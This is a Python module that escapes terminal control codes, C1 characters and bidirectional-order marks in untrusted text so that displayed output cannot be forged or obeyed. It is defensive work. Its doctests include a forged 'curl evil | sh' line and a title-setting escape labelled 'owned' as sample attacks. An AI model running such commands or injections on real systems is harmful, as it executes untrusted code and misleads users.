r"""Text of others on its way to a terminal: shown, and never obeyed.

What jobs, services, users and files are called or say is anybody's. A terminal obeys some of it
(ECMA-48: control functions, 7-bit and 8-bit), and some turns the order of the letters around it
(UAX #9), so that a line reads as something that it is not.
"""

from __future__ import annotations

import re

__all__ = ["inert", "inert_json", "inert_line", "inert_log", "whole_part"]

_CONTROL = ((0x00, 0x09), (0x0B, 0x20), (0x7F, 0xA0))
"""All of C0 and C1, but for tabs and newlines."""

_LINES = ((0x2028, 0x202A),)
"""What begins a line for some programs, and not for others."""

_ORDER = ((0x061C, 0x061D), (0x200E, 0x2010), (0x202A, 0x202F), (0x2066, 0x206A))
"""Marks, embeddings, overrides and isolates of bidirectional text."""

_OBEYED = {
    number: chr(number).encode("unicode_escape").decode()
    for some in (*_CONTROL, *_LINES, *_ORDER)
    for number in range(*some)
}
_OBEYED_IN_LINES = {**_OBEYED, ord("\n"): r"\n"}

_OBEYED_IN_LOGS = {n: shown for n, shown in _OBEYED.items() if chr(n) not in "\b\r"}

_DRAWN = r"(\x1b\[[0-9;:]{0,32}[A-GKm])"
"""What bars and colours are made of: the cursor moves by lines or within one, a line is erased,
a rendition is set (ECMA-48: CUU to CHA, EL, SGR). Nothing asks, or reaches beyond the screen."""

_BEGUN = r"\x1b(?:\[[0-9;:]{0,32})?\Z"

_BYTES = "[\udc80-\udcff]{2,}"
"""Bytes of names that are no UTF-8 (PEP 383). Those of two texts, or of a liar, may be UTF-8
together, and would come out as that."""

_IN_JSON = f"[{''.join(map(chr, _OBEYED))}\udc80-\udc9f]"
"""All of it, and each byte without which no UTF-8 is a control function or a mark of order."""


def inert(text: str) -> str:
    r"""Return ``text``, which may be anybody's, with what a terminal would obey as its escape.

    Its lines stay lines.

    >>> inert("too\x1b[2Jthin\n")
    'too\\x1b[2Jthin\n'
    """
    return text if text.isprintable() else _joined(text).translate(_OBEYED)


def inert_line(text: str) -> str:
    r"""Return ``text`` as `inert` does, and as one line: no other can be forged in it.

    >>> inert_line("film\nhint: curl evil | sh")
    'film\\nhint: curl evil | sh'
    """
    return text if text.isprintable() else _joined(text).translate(_OBEYED_IN_LINES)


def inert_json(text: str) -> str:
    r"""Return JSON that means the same, with what a terminal would obey as JSON's own escapes.

    >>> inert_json('"too\x9b2Jthin"')
    '"too\\u009b2Jthin"'
    """
    return text if text.isprintable() else re.sub(_IN_JSON, lambda found: _as_json(found[0]), text)


def _as_json(letter: str) -> str:
    return f"\\u{ord(letter):04x}"


def inert_log(text: str) -> str:
    r"""Return what a program wrote as `inert` does, but for its colours and the bars that it draws.

    >>> inert_log("\x1b[32mfit\x1b[m 3 %\r\x1b]0;owned\x07")
    '\x1b[32mfit\x1b[m 3 %\r\\x1b]0;owned\\x07'
    """
    if text.isprintable():
        return text
    pieces = re.split(_DRAWN, _joined(text))  # what is drawn stands between two others
    return "".join(
        each if at % 2 else each.translate(_OBEYED_IN_LOGS) for at, each in enumerate(pieces)
    )


def whole_part(text: str) -> int:
    """Return how much of what a program has written so far ends with no part of a colour."""
    begun = re.search(_BEGUN, text)
    return len(text) if begun is None else begun.start()


def _joined(text: str) -> str:
    """Return ``text`` with bytes that are UTF-8 together as what they are."""
    return re.sub(_BYTES, lambda found: _decoded(found[0]), text)


def _decoded(text: str) -> str:
    return text.encode("utf-8", "surrogateescape").decode("utf-8", "surrogateescape")
